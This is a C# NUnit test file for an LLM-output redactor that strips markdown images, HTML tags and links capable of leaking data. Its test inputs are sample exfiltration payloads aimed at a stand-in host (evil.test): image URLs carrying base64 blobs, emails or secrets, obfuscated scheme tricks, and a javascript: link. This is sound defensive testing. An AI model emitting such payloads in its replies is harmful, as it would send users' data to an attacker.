using LlmKit.Text;
using NUnit.Framework;

namespace LlmKit.Tests.Text.Exfiltration;

public class ExfiltrationDetectorTests
{
    private static readonly TextRedactor s_redactor = new([TextDetectors.Exfiltration("docs.example.com", "*.cdn.example.com")]);

    private const string Blob = "aGVsbG8gd29ybGQsIHRoaXMgaXMgZGF0YQ";

    [TestCase("see ![the chart](https://evil.test/p.png) here", "see the chart here")]
    [TestCase("![](https://evil.test/p.png)", "")]
    [TestCase("![a [b] c](<https://evil.test/p q> \"title (x)\")!", "a [b] c!")]
    [TestCase("![x](HTTPS://EVIL.test)", "x")]
    [TestCase("![x](//evil.test/p)", "x")]
    [TestCase("![x](https:/\\evil.test/p)", "x")]
    [TestCase("![x](https&colon;//evil.test/p)", "x")]
    [TestCase("![x](https://docs.example.com@evil.test/p)", "x")]
    [TestCase("![x](https://docs.example.com.evil.test/p)", "x")]
    [TestCase("![x](https://cdn.example.com/p)", "x")]
    [TestCase("![x](data:image/png;base64,AAAA)", "x")]
    [TestCase("![alt][ref]", "[alt][ref]")]
    [TestCase("[![a](https://evil.test/i)](https://docs.example.com/)", "[a](https://docs.example.com/)")]
    [TestCase("<img src=\"https://evil.test/p.png\" alt=\"A chart\">", "A chart")]
    [TestCase("<IMG SRC=//evil.test/p>x", "x")]
    [TestCase("<img srcset='/a 1x, https://evil.test/b 2x'/>", "")]
    [TestCase("<div><iframe src='https://evil.test'></iframe>", "<div></iframe>")]
    [TestCase("<body background=https://evil.test/x>", "")]
    public void Scan_ImageFromAStranger_LeavesItsText(string text, string expected) =>
        Assert.That(s_redactor.Redact(text), Is.EqualTo(expected));

    [TestCase("[click](https://evil.test/?d=" + Blob + ")", "[click]")]
    [TestCase("[click](https://evil.test/" + Blob + "/x \"t\") now", "[click] now")]
    [TestCase("[click](https://evil.test/#" + Blob + ")", "[click]")]
    [TestCase("[click](https://" + Blob + ".evil.test/)", "[click]")]
    [TestCase("[click](https://evil.test/?m=[EMAIL_1])", "[click]")]
    [TestCase("[click](https://evil.test/?m=%5BEMAIL_1%5D)", "[click]")]
    [TestCase("[click](https://evil.test/?m=jane%40example.com)", "[click]")]
    [TestCase("[click](javascript:alert(1))", "[click]")]
    [TestCase("[click](java\\script:alert)", "[click](java\\script:alert)")]
    [TestCase("[x]: https://evil.test/?d=" + Blob + "\nnext", "[x]\nnext")]
    [TestCase("go to https://evil.test/?d=" + Blob + ".", "go to [LINK].")]
    [TestCase("<a href='https://evil.test/?d=" + Blob + "'>go</a>", "go</a>")]
    [TestCase("![a, b](/own.png) ![x](https://img.cdn.example.com/p.png)", "![a, b](/own.png) ![x](https://img.cdn.example.com/p.png)")]
    [TestCase("[paper](https://news.test/2024/how-to-bake-bread-in-an-oven-at-home?page=2#a-longer-heading-of-the-page)", null)]
    [TestCase("[doc](https://docs.example.com/?d=" + Blob + ")", null)]
    [TestCase("wow![see 1] and if (![a, b].includes(c)) return x[0](y);", null)]
    [TestCase("\\![x](https://docs.example.com/)", null)]
    [TestCase("List<image> and a < b, `<a` and <b>bold</b>", null)]
    public void Scan_Link_GoesIfItCarriesData(string text, string? expected) =>
        Assert.That(s_redactor.Redact(text), Is.EqualTo(expected ?? text));

    [Test]
    public void Scan_SecretInAnAddress_IsFound() =>
        Assert.That(s_redactor.Redact($"[x](https://evil.test/?k={SecretSamples.GitHub})"), Is.EqualTo("[x]"));

    [Test]
    public void Append_AddressWithoutEnd_IsSwallowed()
    {
        var stream = s_redactor.OpenStream();

        var released = stream.Append("![pixel](data:image/png;base64,") + string.Concat(Enumerable.Repeat(0, 500).Select(_ => stream.Append("aB3dE5fG")));

        Assert.That((released + stream.Append(" end") + stream.Complete(), stream.HasOverflowed), Is.EqualTo(("pixel end", false)));
    }

    [Test]
    public void Append_TagWithoutEnd_IsSwallowedWithItsBracket()
    {
        var stream = s_redactor.OpenStream();

        var released = stream.Append("<img src=x data-x='") + string.Concat(Enumerable.Repeat(0, 500).Select(_ => stream.Append("aB3d E5fG")));

        Assert.That((released + stream.Append("'> end") + stream.Complete(), stream.HasOverflowed), Is.EqualTo((" end", false)));
    }

    [TestCase("https://example.com")]
    [TestCase("example.com/path")]
    [TestCase("*")]
    [TestCase("")]
    public void Exfiltration_HostThatIsNone_IsRefused(string host) =>
        Assert.That(() => TextDetectors.Exfiltration(host), Throws.ArgumentException);

    [TestCase("]:https://evil.test/x")]
    [TestCase("https://evil.test/x![")]
    [TestCase("<img a ")]
    public void Scan_AnchorsInARunWithoutEnd_AreReadInLinearTime(string unit)
    {
        var text = string.Concat(Enumerable.Repeat(unit, 1_200_000 / unit.Length));

        var watch = System.Diagnostics.Stopwatch.StartNew();
        s_redactor.Find(text);

        // A second or so if linear; reading the run to its end from every anchor takes a minute and more.
        Assert.That(watch.Elapsed, Is.LessThan(TimeSpan.FromSeconds(20)));
    }
}
